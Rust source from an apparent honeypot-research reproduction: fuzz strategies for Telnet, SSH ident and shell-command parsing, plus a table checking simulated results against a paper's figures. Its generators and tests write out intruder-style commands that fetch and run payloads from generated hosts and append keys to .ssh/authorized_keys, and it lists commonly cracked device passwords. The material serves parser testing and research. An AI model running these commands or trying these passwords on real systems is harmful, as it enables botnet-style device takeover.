                            out.push(b);
                        }
                    }
                    out.extend_from_slice(&[IAC, telnet::SE]);
                }
                // Malformed: IAC inside SB followed by a non-SE byte.
                7 => out.extend_from_slice(&[IAC, telnet::SB, 31, IAC, 7]),
                // Bare command.
                8 => out.extend_from_slice(&[IAC, rng.gen_range(241u8..250)]),
                // Raw noise, may cut any sequence short.
                _ => {
                    let n = rng.gen_range(1usize..8);
                    for _ in 0..n {
                        out.push(rng.gen());
                    }
                }
            }
        }
        // Sometimes end mid-sequence to exercise cross-feed state.
        if rng.gen_ratio(1, 4) {
            out.push(IAC);
            if rng.gen_ratio(1, 2) {
                out.push(telnet::WILL);
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------
// SSH identification lines

/// Strategy for SSH identification lines: valid RFC 4253 idents, near-miss
/// corruptions of valid idents, and outright junk.
#[derive(Debug, Clone, Copy, Default)]
pub struct SshIdentLine;

/// SSH ident-line strategy (see [`SshIdentLine`]).
pub fn ssh_ident_line() -> SshIdentLine {
    SshIdentLine
}

fn ascii_word(rng: &mut SmallRng, max: usize) -> String {
    let n = rng.gen_range(1..=max);
    (0..n)
        .map(|_| {
            let set = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.";
            set[rng.gen_range(0..set.len())] as char
        })
        .collect()
}

impl Strategy for SshIdentLine {
    type Value = String;

    fn generate(&self, rng: &mut SmallRng) -> String {
        match rng.gen_range(0u32..10) {
            // A banner from the honeypot's own catalog.
            0..=1 => {
                let b = hf_proto::ssh_ident::CLIENT_BANNERS;
                b[rng.gen_range(0..b.len())].to_string()
            }
            // A freshly assembled valid ident, optionally with comments
            // and CRLF.
            2..=4 => {
                let ver = ["2.0", "1.99", "1.5"][rng.gen_range(0usize..3)];
                let sw = ascii_word(rng, 16);
                let mut s = format!("SSH-{ver}-{sw}");
                if rng.gen_ratio(1, 2) {
                    s.push(' ');
                    s.push_str(&ascii_word(rng, 20));
                }
                if rng.gen_ratio(1, 2) {
                    s.push_str("\r\n");
                }
                s
            }
            // Near misses: wrong prefix, missing separator, empty fields,
            // overlong, embedded control bytes.
            5 => format!("SSH{}", ascii_word(rng, 12)),
            6 => "SSH-2.0".to_string(),
            7 => ["SSH--x", "SSH-2.0-", "SSH--"][rng.gen_range(0usize..3)].to_string(),
            8 => format!("SSH-2.0-{}", "x".repeat(rng.gen_range(240usize..400))),
            // Junk, including non-ASCII and control characters.
            _ => {
                let n = rng.gen_range(0usize..40);
                (0..n)
                    .map(|_| char::from(rng.gen_range(0u8..0x90).min(0x7f)))
                    .collect()
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Shell command lines

const COMMANDS: &[&str] = &[
    "uname", "free", "cat", "echo", "cd", "chmod", "rm", "ps", "wget", "curl", "tftp", "ftpget",
    "scp", "sh", "history", "crontab", "uptime", "w", "ls", "mkdir",
];

const ARGS: &[&str] = &[
    "-a",
    "-m",
    "/proc/cpuinfo",
    "/tmp/x",
    ".ssh/authorized_keys",
    "777",
    "-rf",
    "x.sh",
    "model",
    "bot.mips",
    "198.51.100.7",
    "-g",
    "-r",
    "hello world",
    "a'b",
    "$PATH",
];

const URI_TEMPLATES: &[&str] = &[
    "wget http://HOST/PATH",
    "curl -O http://HOST/PATH",
    "wget https://HOST/PATH",
    "tftp -g -r PATH HOST",
    "tftp HOST -c get PATH",
    "ftpget -u anonymous HOST x PATH",
    "scp root@HOST:/tmp/PATH .",
    "wget ftp://HOST/PATH",
];

fn host(rng: &mut SmallRng) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.gen_range(1u8..254),
        rng.gen_range(0u8..255),
        rng.gen_range(0u8..255),
        rng.gen_range(1u8..254)
    )
}

fn one_command(rng: &mut SmallRng, out: &mut String) {
    out.push_str(COMMANDS[rng.gen_range(0..COMMANDS.len())]);
    let n_args = rng.gen_range(0usize..4);
    for _ in 0..n_args {
        out.push(' ');
        let a = ARGS[rng.gen_range(0..ARGS.len())];
        match rng.gen_range(0u32..6) {
            0 => {
                // Single-quote, escaping embedded quotes.
                out.push('\'');
                out.push_str(&a.replace('\'', "'\\''"));
                out.push('\'');
            }
            1 => {
                out.push('"');
                out.push_str(a);
                out.push('"');
            }
            _ => out.push_str(a),
        }
    }
    match rng.gen_range(0u32..8) {
        0 => out.push_str(" > /tmp/out"),
        1 => out.push_str(" >> .ssh/authorized_keys"),
        2 => out.push_str(" 2>/dev/null"),
        3 => out.push_str(" 2>&1"),
        _ => {}
    }
}

/// Strategy for shell command lines composed from the command vocabulary
/// honeypot intruders actually use: quoting, redirections, pipelines, and
/// `;` / `&&` / `||` chaining, plus occasional raw noise.
#[derive(Debug, Clone, Copy, Default)]
pub struct CommandLine {
    uri_biased: bool,
}

/// General shell-command-line strategy.
pub fn command_line() -> CommandLine {
    CommandLine { uri_biased: false }
}

/// Command-line strategy biased toward URI-bearing payloads (download
/// tools with generated hosts and paths).
pub fn uri_command_line() -> CommandLine {
    CommandLine { uri_biased: true }
}

impl Strategy for CommandLine {
    type Value = String;

    fn generate(&self, rng: &mut SmallRng) -> String {
        if !self.uri_biased && rng.gen_ratio(1, 10) {
            // Raw noise: arbitrary printable bytes with shell metachars.
            let n = rng.gen_range(0usize..60);
            return (0..n)
                .map(|_| char::from(rng.gen_range(0x20u8..0x7f)))
                .collect();
        }
        let mut out = String::new();
        let n_stmts = rng.gen_range(1usize..4);
        for i in 0..n_stmts {
            if i > 0 {
                out.push_str([" ; ", " && ", " || ", " | "][rng.gen_range(0usize..4)]);
            }
            let use_uri = self.uri_biased && rng.gen_ratio(2, 3);
            if use_uri {
                let t = URI_TEMPLATES[rng.gen_range(0..URI_TEMPLATES.len())];
                let path = format!(
                    "{}.{}",
                    ascii_word(rng, 8),
                    ["sh", "mips", "arm", "x86"][rng.gen_range(0usize..4)]
                );
                out.push_str(&t.replace("HOST", &host(rng)).replace("PATH", &path));
            } else {
                one_command(rng, &mut out);
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------
// Statement rendering (lex → render → lex idempotence)

/// Render parsed statements back to a canonical command line that re-lexes
/// to the same structure: every word single-quoted (with the `'\''` escape
/// for embedded quotes), redirections spelled out, pipelines joined with
/// `|`, statements joined by their chain operator.
pub fn render_statements(stmts: &[Statement]) -> String {
    let mut out = String::new();
    for stmt in stmts {
        for (i, cmd) in stmt.pipeline.iter().enumerate() {
            if i > 0 {
                out.push_str(" | ");
            }
            let mut first = true;
            for w in &cmd.argv {
                if !first {
                    out.push(' ');
                }
                first = false;
                push_quoted(&mut out, w);
            }
            for r in &cmd.redirs {
                if !first {
                    out.push(' ');
                }
                first = false;
                match r {
                    Redirection::Out(t) => {
                        out.push_str("> ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::Append(t) => {
                        out.push_str(">> ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::In(t) => {
                        out.push_str("< ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::Err(t) => {
                        out.push_str("2> ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::ErrToOut => out.push_str("2>&1"),
                }
            }
        }
        out.push_str(match stmt.chain {
            Chain::Always => " ; ",
            Chain::And => " && ",
            Chain::Or => " || ",
        });
    }
    out
}

/// Single-quote a word so the lexer reproduces it exactly; embedded single
/// quotes use the close-escape-reopen idiom (`'` → `'\''`).
fn push_quoted(out: &mut String, w: &str) {
    out.push('\'');
    out.push_str(&w.replace('\'', "'\\''"));
    out.push('\'');
}

// ---------------------------------------------------------------------------
// Snapshot mutation

/// One targeted corruption of an hfstore snapshot byte buffer.
///
/// Positions are generated as raw draws and reduced modulo the buffer
/// length at [`MutOp::apply`] time, since the strategy does not know the
/// buffer size when values are generated.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MutOp {
    /// XOR one byte with a non-zero mask.
    FlipByte {
        /// Raw position draw (reduced mod len).
        pos: u64,
        /// XOR mask, never zero.
        mask: u8,
    },
    /// Cut the buffer short.
    Truncate {
        /// Raw length draw (reduced mod len).
        keep: u64,
    },
    /// Overwrite a short range with zeros.
    ZeroRange {
        /// Raw position draw (reduced mod len).
        pos: u64,
        /// Range length, 1..=32.
        len: u8,
    },
    /// Insert garbage bytes mid-stream, shifting everything after them.
    /// (Appending *past* the final section is deliberately not a corruption:
    /// the streaming loader consumes exactly one snapshot from a reader.)
    Insert {
        /// Raw position draw (reduced mod len, so always before the end).
        pos: u64,
        /// Byte value to insert.
        byte: u8,
        /// How many copies, 1..=64.
        n: u8,
    },
    /// Damage the 8-byte magic specifically.
    CorruptMagic {
        /// Which magic byte, 0..8.
        idx: u8,
    },
    /// Overwrite the format version with an unsupported one.
    BumpVersion {
        /// The bogus version.
        version: u32,
    },
}

impl MutOp {
    /// Apply the mutation. Guaranteed to change the buffer (or its length)
    /// for any non-empty input.
    pub fn apply(self, bytes: &mut Vec<u8>) {
        if bytes.is_empty() {
            return;
        }
        match self {
            MutOp::FlipByte { pos, mask } => {
                let i = (pos % bytes.len() as u64) as usize;
                bytes[i] ^= mask;
            }
            MutOp::Truncate { keep } => {
                let k = (keep % bytes.len() as u64) as usize;
                bytes.truncate(k);
            }
            MutOp::ZeroRange { pos, len } => {
                let i = (pos % bytes.len() as u64) as usize;
                let end = (i + len as usize).min(bytes.len());
                // Zero the range; if it was already all-zero, set the first
                // byte instead so the mutation always changes the buffer.
                let already_zero = bytes[i..end].iter().all(|b| *b == 0);
                for b in &mut bytes[i..end] {
                    *b = 0;
                }
                if already_zero {
                    bytes[i] = 1;
                }
            }
            MutOp::Insert { pos, byte, n } => {
                let i = (pos % bytes.len() as u64) as usize;
                let garbage = std::iter::repeat_n(byte, n.max(1) as usize);
                bytes.splice(i..i, garbage);
            }
            MutOp::CorruptMagic { idx } => {
                let i = (idx as usize) % 8.min(bytes.len());
                bytes[i] ^= 0xA5;
            }
            MutOp::BumpVersion { version } => {
                if bytes.len() >= 12 {
                    bytes[8..12].copy_from_slice(&version.to_le_bytes());
                }
            }
        }
    }
}

/// Strategy over [`MutOp`] weighted toward byte flips (the checksum
/// workhorse) but covering every structural corruption class.
#[derive(Debug, Clone, Copy, Default)]
pub struct SnapshotMutation;

/// Snapshot-corruption strategy (see [`SnapshotMutation`]).
pub fn snapshot_mutation() -> SnapshotMutation {
    SnapshotMutation
}

impl Strategy for SnapshotMutation {
    type Value = MutOp;

    fn generate(&self, rng: &mut SmallRng) -> MutOp {
        match rng.gen_range(0u32..10) {
            0..=3 => MutOp::FlipByte {
                pos: rng.gen(),
                mask: rng.gen_range(1u8..=255),
            },
            4..=5 => MutOp::Truncate { keep: rng.gen() },
            6 => MutOp::ZeroRange {
                pos: rng.gen(),
                len: rng.gen_range(1u8..=32),
            },
            7 => MutOp::Insert {
                pos: rng.gen(),
                byte: rng.gen(),
                n: rng.gen_range(1u8..=64),
            },
            8 => MutOp::CorruptMagic {
                idx: rng.gen_range(0u8..8),
            },
            _ => MutOp::BumpVersion {
                version: if rng.gen_ratio(1, 2) {
                    0
                } else {
                    rng.gen_range(2u32..1000)
                },
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_shell::split_statements;
    use rand::SeedableRng;

    fn rng(seed: u64) -> SmallRng {
        SmallRng::seed_from_u64(seed)
    }

    #[test]
    fn telnet_stream_produces_varied_bytes() {
        let strat = telnet_stream();
        let mut saw_iac = false;
        let mut saw_data = false;
        for seed in 0..64 {
            let v = strat.generate(&mut rng(seed));
            saw_iac |= v.contains(&IAC);
            saw_data |= v.iter().any(|&b| (0x20..0x7f).contains(&b));
        }
        assert!(saw_iac && saw_data);
    }

    #[test]
    fn ssh_ident_mixes_valid_and_invalid() {
        let strat = ssh_ident_line();
        let (mut ok, mut bad) = (0, 0);
        for seed in 0..128 {
            let s = strat.generate(&mut rng(seed));
            match hf_proto::ssh_ident::SshIdent::parse(&s) {
                Ok(_) => ok += 1,
                Err(_) => bad += 1,
            }
        }
        assert!(ok > 10, "valid idents generated: {ok}");
        assert!(bad > 10, "invalid idents generated: {bad}");
    }

    #[test]
    fn command_lines_lex_and_sometimes_carry_uris() {
        let general = command_line();
        let biased = uri_command_line();
        let mut uris = 0;
        for seed in 0..64 {
            let line = general.generate(&mut rng(seed));
            let _ = split_statements(&line);
            let line = biased.generate(&mut rng(seed));
            if !hf_shell::extract_uris(&line).is_empty() {
                uris += 1;
            }
        }
        assert!(uris > 20, "uri-biased lines with uris: {uris}");
    }

    #[test]
    fn render_statements_is_idempotent_on_examples() {
        for line in [
            "uname -a; free -m",
            "cd /tmp && wget http://1.2.3.4/x.sh && chmod 777 x.sh",
            "cat /proc/cpuinfo | grep model | head -1",
            "echo 'a b' \"c d\" e\\ f",
            "echo key >> /root/.ssh/authorized_keys 2>&1",
            "echo can'\\''t",
            "wget http://x/a 2>/dev/null 2>&1 || echo fail",
            "> /tmp/empty",
        ] {
            let first = split_statements(line);
            let rendered = render_statements(&first);
            let second = split_statements(&rendered);
            assert_eq!(
                first, second,
                "render not stable for {line:?}\n→ {rendered:?}"
            );
        }
    }

    #[test]
    fn mutations_change_the_buffer() {
        let strat = snapshot_mutation();
        for seed in 0..256 {
            let op = strat.generate(&mut rng(seed));
            let original: Vec<u8> = (0..64u8).collect();
            let mut mutated = original.clone();
            op.apply(&mut mutated);
            assert_ne!(original, mutated, "no-op mutation from {op:?}");
        }
    }

    #[test]
    fn bump_version_targets_the_version_field() {
        let mut bytes = vec![0u8; 16];
        MutOp::BumpVersion { version: 7 }.apply(&mut bytes);
        assert_eq!(&bytes[8..12], &7u32.to_le_bytes());
    }
}
