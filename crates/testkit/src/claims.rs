//! Declarative paper-claims oracle.
//!
//! Every headline number the reproduction asserts against the paper — the
//! Table 1 category mix, the hash tables, the figure shapes — lives here as
//! one [`ClaimSpec`] row: a stable id, the paper source, an [`Expectation`]
//! (paper value + tolerance, range, or bound), and an accessor that pulls
//! the measured value out of a [`ClaimCtx`]. The test suite
//! (`tests/paper_claims.rs`) and the `hfarm verify --claims` report both
//! evaluate this same table, so a tolerance can never drift between the
//! two.

use hf_core::report::{figures, tables, HashSortKey};
use hf_core::report::{Fig10, Fig16, Fig2, Fig7, HashTable, Table2, Table3};
use hf_core::{Aggregates, Category, Claims};
use hf_farm::{Dataset, TagDb};
use hf_sim::SimOutput;
use hf_simclock::{Date, StudyWindow};

/// Everything a claim accessor may need, computed once per evaluation.
pub struct ClaimCtx<'a> {
    /// The dataset under test. May be row-free (streaming fold): every
    /// claim reads the aggregates or the dataset's pools/plan, never rows.
    pub dataset: &'a Dataset,
    /// Tag/campaign associations for the dataset's hashes.
    pub tags: &'a TagDb,
    /// Aggregates over the dataset.
    pub agg: Aggregates,
    /// The repo's derived claim metrics.
    pub claims: Claims,
    /// Attacker clustering over the dataset's rows, `None` on a row-free
    /// (streaming-fold) dataset — the cluster claims, like the absolute-day
    /// figure claims, only run on materialized full-window fixtures.
    pub clusters: Option<hf_cluster::ClusterOutput>,
    fig2: Fig2,
    fig7: Fig7,
    fig10: Fig10,
    fig16: Fig16,
    t2: Table2,
    t3: Table3,
    t4: HashTable,
    t6: HashTable,
    t6_full: HashTable,
}

impl<'a> ClaimCtx<'a> {
    /// Compute aggregates, claims, and the figures/tables the claim table
    /// reads from.
    pub fn new(out: &'a SimOutput) -> ClaimCtx<'a> {
        ClaimCtx::from_parts(&out.dataset, &out.tags, Aggregates::compute(&out.dataset))
    }

    /// Build a context from already-computed aggregates — the entry point
    /// for the streaming fold path, where the dataset carries no session
    /// rows and the aggregates came from [`hf_core::StreamingFold`].
    pub fn from_parts(dataset: &'a Dataset, tags: &'a TagDb, agg: Aggregates) -> ClaimCtx<'a> {
        let claims = Claims::compute(&agg);
        // A dataset with aggregated sessions but no rows is the streaming
        // fold: feature extraction needs rows, so the cluster claims are
        // skipped there (the invariance suite separately proves streaming
        // feature extraction matches the materialized path bit-for-bit).
        let clusters = if dataset.sessions.is_empty() && claims.total_sessions > 0 {
            None
        } else {
            let run =
                hf_cluster::ClusterRun::over(dataset, 1, &hf_cluster::KMeansConfig::default());
            Some(run.output)
        };
        ClaimCtx {
            clusters,
            fig2: figures::fig2(&agg),
            fig7: figures::fig7(&agg),
            fig10: figures::fig10(&agg),
            fig16: figures::fig16(&agg),
            t2: tables::table2(dataset, &agg),
            t3: tables::table3(dataset, &agg),
            t4: tables::hash_table(dataset, &agg, tags, HashSortKey::Sessions, 20),
            t6: tables::hash_table(dataset, &agg, tags, HashSortKey::Days, 20),
            t6_full: tables::hash_table(dataset, &agg, tags, HashSortKey::Days, 5000),
            dataset,
            tags,
            agg,
            claims,
        }
    }

    fn share(&self, c: Category) -> f64 {
        self.agg.cat_totals[c.index()] as f64 / self.claims.total_sessions.max(1) as f64
    }

    fn ssh_within(&self, c: Category) -> f64 {
        self.agg.cat_ssh[c.index()] as f64 / self.agg.cat_totals[c.index()].max(1) as f64
    }

    fn ecdf(&self, c: Category) -> &hf_core::metrics::Ecdf {
        &self
            .fig7
            .ecdfs
            .iter()
            .find(|(cat, _)| *cat == c)
            .expect("fig7 covers every category")
            .1
    }

    fn mean_day_by_cat(&self, c: Category, r: std::ops::Range<usize>) -> f64 {
        let n = r.len() as f64;
        r.map(|d| self.agg.day_by_cat[c.index()][d] as f64)
            .sum::<f64>()
            / n
    }

    fn mean_day_ips(&self, c: Category, r: std::ops::Range<usize>) -> f64 {
        let n = r.len() as f64;
        r.map(|d| self.agg.day_unique_ips[d][c.index()] as f64)
            .sum::<f64>()
            / n
    }

    fn no_cmd_share(&self, r: std::ops::Range<usize>) -> f64 {
        let cat: u64 = r
            .clone()
            .map(|d| self.agg.day_by_cat[Category::NoCmd.index()][d])
            .sum();
        let tot: u64 = r.map(|d| self.agg.day_total[d]).sum();
        cat as f64 / tot.max(1) as f64
    }

    fn as_breadth(&self) -> f64 {
        // The aggregates' ASN set is proven row-equivalent by the hf-core
        // suite; reading it here keeps the claim evaluable on a row-free
        // (streaming) dataset.
        self.agg.asns.len() as f64
    }
}

/// How a measured value is judged against the paper.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Expectation {
    /// `|measured - paper| < tol`.
    Within {
        /// The paper's reported value.
        paper: f64,
        /// Absolute tolerance.
        tol: f64,
    },
    /// `lo <= measured < hi`.
    Range {
        /// Inclusive lower bound.
        lo: f64,
        /// Exclusive upper bound.
        hi: f64,
    },
    /// `measured >= x`.
    AtLeast(f64),
    /// `measured <= x`.
    AtMost(f64),
    /// Structural predicate: measured is 1.0 when the claim holds.
    Holds,
}

impl Expectation {
    /// Does `measured` satisfy this expectation?
    pub fn check(&self, measured: f64) -> bool {
        match *self {
            Expectation::Within { paper, tol } => (measured - paper).abs() < tol,
            Expectation::Range { lo, hi } => measured >= lo && measured < hi,
            Expectation::AtLeast(x) => measured >= x,
            Expectation::AtMost(x) => measured <= x,
            Expectation::Holds => measured == 1.0,
        }
    }

    /// Human rendering of the acceptance region.
    pub fn describe(&self) -> String {
        match *self {
            Expectation::Within { paper, tol } => format!("{paper} ± {tol}"),
            Expectation::Range { lo, hi } => format!("[{lo}, {hi})"),
            Expectation::AtLeast(x) => format!("≥ {x}"),
            Expectation::AtMost(x) => format!("≤ {x}"),
            Expectation::Holds => "holds".to_string(),
        }
    }
}

/// One paper claim: where it comes from, what the paper says, how we
/// measure it.
pub struct ClaimSpec {
    /// Stable identifier, e.g. `table1.no_cred_share`.
    pub id: &'static str,
    /// Paper source, e.g. `Table 1` or `Fig. 7`.
    pub source: &'static str,
    /// What the claim says, in words.
    pub description: &'static str,
    /// Acceptance region.
    pub expectation: Expectation,
    /// Accessor for the measured value.
    pub measure: fn(&ClaimCtx) -> f64,
}

/// Outcome of evaluating one claim.
pub struct ClaimResult {
    /// The spec that was evaluated.
    pub spec: &'static ClaimSpec,
    /// The measured value.
    pub measured: f64,
    /// Whether the expectation held.
    pub pass: bool,
}

fn b(v: bool) -> f64 {
    if v {
        1.0
    } else {
        0.0
    }
}

/// The full claim table. Order follows the paper's sections.
pub fn claim_specs() -> &'static [ClaimSpec] {
    use Expectation::*;
    const PAPER_PASSWORDS: [&str; 10] = [
        "admin",
        "1234",
        "3245gs5662d34",
        "dreambox",
        "vertex25ektks123",
        "12345",
        "h3c",
        "1qaz2wsx3edc",
        "passw0rd",
        "GM8182",
    ];
    static SPECS: &[ClaimSpec] = &[
        // ----- Table 1: session taxonomy -----
        ClaimSpec {
            id: "table1.no_cred_share",
            source: "Table 1",
            description: "NO_CRED share of all sessions",
            expectation: Within {
                paper: 0.277,
                tol: 0.02,
            },
            measure: |c| c.share(Category::NoCred),
        },
        ClaimSpec {
            id: "table1.fail_log_share",
            source: "Table 1",
            description: "FAIL_LOG share of all sessions",
            expectation: Within {
                paper: 0.42,
                tol: 0.02,
            },
            measure: |c| c.share(Category::FailLog),
        },
        ClaimSpec {
            id: "table1.no_cmd_share",
            source: "Table 1",
            description: "NO_CMD share of all sessions",
            expectation: Within {
                paper: 0.116,
                tol: 0.02,
            },
            measure: |c| c.share(Category::NoCmd),
        },
        ClaimSpec {
            id: "table1.cmd_share",
            source: "Table 1",
            description: "CMD share of all sessions",
            expectation: Within {
                paper: 0.18,
                tol: 0.02,
            },
            measure: |c| c.share(Category::Cmd),
        },
        ClaimSpec {
            id: "table1.cmd_uri_share",
            source: "Table 1",
            description: "CMD+URI share of all sessions",
            expectation: Within {
                paper: 0.007,
                tol: 0.005,
            },
            measure: |c| c.share(Category::CmdUri),
        },
        ClaimSpec {
            id: "table1.ssh_share",
            source: "Table 1",
            description: "SSH share of all sessions",
            expectation: Within {
                paper: 0.7584,
                tol: 0.03,
            },
            measure: |c| c.claims.ssh_share,
        },
        ClaimSpec {
            id: "table1.ssh_within_no_cred",
            source: "Table 1",
            description: "SSH share within NO_CRED (Telnet-dominated)",
            expectation: Within {
                paper: 0.2182,
                tol: 0.03,
            },
            measure: |c| c.ssh_within(Category::NoCred),
        },
        ClaimSpec {
            id: "table1.ssh_within_fail_log",
            source: "Table 1",
            description: "SSH share within FAIL_LOG",
            expectation: AtLeast(0.97),
            measure: |c| c.ssh_within(Category::FailLog),
        },
        ClaimSpec {
            id: "table1.ssh_within_no_cmd",
            source: "Table 1",
            description: "SSH share within NO_CMD",
            expectation: AtLeast(0.95),
            measure: |c| c.ssh_within(Category::NoCmd),
        },
        ClaimSpec {
            id: "table1.ssh_within_cmd",
            source: "Table 1",
            description: "SSH share within CMD",
            expectation: AtLeast(0.90),
            measure: |c| c.ssh_within(Category::Cmd),
        },
        ClaimSpec {
            id: "table1.ssh_within_cmd_uri",
            source: "Table 1",
            description: "SSH share within CMD+URI (mixed)",
            expectation: Within {
                paper: 0.6245,
                tol: 0.08,
            },
            measure: |c| c.ssh_within(Category::CmdUri),
        },
        // ----- Fig. 2: honeypot popularity -----
        ClaimSpec {
            id: "fig2.top10_session_share",
            source: "Fig. 2",
            description: "share of sessions on the 10 busiest honeypots",
            expectation: Within {
                paper: 0.14,
                tol: 0.035,
            },
            measure: |c| c.claims.top10_session_share,
        },
        ClaimSpec {
            id: "fig2.session_spread",
            source: "Fig. 2",
            description: "max/min sessions-per-honeypot spread",
            expectation: AtLeast(25.0),
            measure: |c| c.claims.session_spread,
        },
        ClaimSpec {
            id: "fig2.min_sessions",
            source: "Fig. 2",
            description: "least-targeted honeypot still sees traffic (scaled 360k)",
            expectation: AtLeast(360_000.0 * 0.002 * 0.5),
            measure: |c| c.fig2.series.last().map(|&(_, n)| n as f64).unwrap_or(0.0),
        },
        // ----- Table 2: successful passwords -----
        ClaimSpec {
            id: "table2.paper_passwords_present",
            source: "Table 2",
            description: "paper's top-10 successful passwords all reproduced",
            expectation: AtLeast(10.0),
            measure: |c| {
                PAPER_PASSWORDS
                    .iter()
                    .filter(|p| c.t2.rows.iter().any(|(q, _)| q == *p))
                    .count() as f64
            },
        },
        // ----- Table 3: commands -----
        ClaimSpec {
            id: "table3.trojan_key_present",
            source: "Table 3",
            description: "H1 trojan authorized_keys command in the top-20",
            expectation: Holds,
            measure: |c| {
                b(c.t3
                    .rows
                    .iter()
                    .any(|(cmd, n)| cmd.contains("authorized_keys") && *n > 0))
            },
        },
        ClaimSpec {
            id: "table3.recon_commands_present",
            source: "Table 3",
            description: "classic recon commands (uname, free, cpuinfo) in the top-20",
            expectation: AtLeast(3.0),
            measure: |c| {
                ["uname", "free", "cpuinfo"]
                    .iter()
                    .filter(|needle| c.t3.rows.iter().any(|(cmd, _)| cmd.contains(**needle)))
                    .count() as f64
            },
        },
        // ----- Tables 4–6: headline hashes -----
        ClaimSpec {
            id: "table4.top_is_h1_trojan",
            source: "Table 4",
            description: "top hash by sessions is campaign H1, tagged trojan",
            expectation: Holds,
            measure: |c| {
                let top = &c.t4.rows[0];
                b(top.campaign == "H1" && top.tag == "trojan")
            },
        },
        ClaimSpec {
            id: "table4.h1_honeypots",
            source: "Table 4",
            description: "H1 observed at most of the farm",
            expectation: AtLeast(201.0),
            measure: |c| c.t4.rows[0].honeypots as f64,
        },
        ClaimSpec {
            id: "table4.h1_days",
            source: "Table 4",
            description: "H1 active almost the whole window",
            expectation: AtLeast(441.0),
            measure: |c| c.t4.rows[0].days as f64,
        },
        ClaimSpec {
            id: "table4.h1_dominance",
            source: "Table 4",
            description: "H1 sessions vs runner-up (paper: >20×)",
            expectation: AtLeast(10.0),
            measure: |c| c.t4.rows[0].sessions as f64 / c.t4.rows[1].sessions.max(1) as f64,
        },
        ClaimSpec {
            id: "table4.tag_mix",
            source: "Table 4",
            description: "mirai, trojan, malicious, miner tags all in top-20",
            expectation: AtLeast(4.0),
            measure: |c| {
                ["mirai", "trojan", "malicious", "miner"]
                    .iter()
                    .filter(|t| c.t4.rows.iter().any(|r| r.tag == **t))
                    .count() as f64
            },
        },
        ClaimSpec {
            id: "table6.structure",
            source: "Table 6",
            description:
                "days table sorted descending, mirai present, mirai-77 family ≤ 77 honeypots",
            expectation: Holds,
            measure: |c| {
                let sorted = c.t6.rows.windows(2).all(|w| w[0].days >= w[1].days);
                let mirai = c.t6.rows.iter().any(|r| r.tag == "mirai");
                let capped = ["H24", "H25", "H32"].iter().all(|name| {
                    c.t6_full
                        .rows
                        .iter()
                        .find(|r| r.campaign == *name)
                        .map(|r| r.honeypots <= 77)
                        .unwrap_or(true)
                });
                b(sorted && mirai && capped)
            },
        },
        // ----- Section 7.1: client population -----
        ClaimSpec {
            id: "clients.total",
            source: "§7.1",
            description: "distinct client IPs (2.1M scaled by 0.002 ≈ 4200)",
            expectation: Range {
                lo: 2_000.0,
                hi: 12_000.0,
            },
            measure: |c| c.claims.total_clients as f64,
        },
        ClaimSpec {
            id: "clients.as_breadth",
            source: "§7.1",
            description: "distinct ASes observed",
            expectation: AtLeast(501.0),
            measure: |c| c.as_breadth(),
        },
        // ----- Figs. 12/13: client spread and lifetime -----
        ClaimSpec {
            id: "fig12.single_honeypot",
            source: "Fig. 12",
            description: "clients contacting exactly one honeypot",
            expectation: Range { lo: 0.2, hi: 0.5 },
            measure: |c| c.claims.clients_single_honeypot,
        },
        ClaimSpec {
            id: "fig12.gt10_honeypots",
            source: "Fig. 12",
            description: "clients contacting more than 10 honeypots",
            expectation: Range { lo: 0.10, hi: 0.35 },
            measure: |c| c.claims.clients_gt10_honeypots,
        },
        ClaimSpec {
            id: "fig12.gt_half_farm",
            source: "Fig. 12",
            description: "clients contacting more than half the farm",
            expectation: AtMost(0.05),
            measure: |c| c.claims.clients_gt_half,
        },
        ClaimSpec {
            id: "fig13.single_day",
            source: "Fig. 13",
            description: "clients active exactly one day",
            expectation: Range { lo: 0.30, hi: 0.65 },
            measure: |c| c.claims.clients_single_day,
        },
        ClaimSpec {
            id: "fig13.almost_daily",
            source: "Fig. 13",
            description: "IPs active on >90% of days",
            expectation: AtLeast(100.0),
            measure: |c| c.claims.clients_almost_daily as f64,
        },
        // ----- Section 9: roles -----
        ClaimSpec {
            id: "roles.multi_role_share",
            source: "§9",
            description: "client IPs appearing in more than one category",
            expectation: AtLeast(0.2),
            measure: |c| c.claims.multi_role_share,
        },
        // ----- Section 8.4: hash coverage -----
        ClaimSpec {
            id: "hashes.single_honeypot",
            source: "§8.4",
            description: "hashes seen at exactly one honeypot",
            expectation: AtLeast(0.6),
            measure: |c| c.claims.hashes_single_honeypot,
        },
        ClaimSpec {
            id: "hashes.top_honeypot_share",
            source: "§8.4",
            description: "share of all hashes on the hash-richest honeypot",
            expectation: AtMost(0.05),
            measure: |c| c.claims.top_honeypot_hash_share,
        },
        ClaimSpec {
            id: "hashes.top10_differs_from_sessions",
            source: "§8.4",
            description: "hash-richest honeypots are not the session-richest",
            expectation: Holds,
            measure: |c| b(!c.claims.hash_top10_equals_session_top10),
        },
        ClaimSpec {
            id: "hashes.early_observers",
            source: "§8.4",
            description: "hash-rich honeypots see hashes first",
            expectation: Holds,
            measure: |c| b(c.claims.hash_rich_are_early_observers),
        },
        ClaimSpec {
            id: "hashes.gt_half_farm",
            source: "§8.4",
            description: "hashes seen by more than half the farm (scaled)",
            expectation: AtLeast(4.0),
            measure: |c| c.claims.hashes_gt_half as f64,
        },
        // ----- Fig. 7: duration shapes -----
        ClaimSpec {
            id: "fig7.no_cred_under_minute",
            source: "Fig. 7",
            description: "NO_CRED sessions ending within 59 s",
            expectation: AtLeast(0.85),
            measure: |c| c.ecdf(Category::NoCred).fraction_le(59),
        },
        ClaimSpec {
            id: "fig7.fail_log_under_minute",
            source: "Fig. 7",
            description: "FAIL_LOG sessions ending within 59 s",
            expectation: AtLeast(0.85),
            measure: |c| c.ecdf(Category::FailLog).fraction_le(59),
        },
        ClaimSpec {
            id: "fig7.no_cmd_reaches_timeout",
            source: "Fig. 7",
            description: "NO_CMD sessions ending before the 180 s idle timeout",
            expectation: AtMost(0.10),
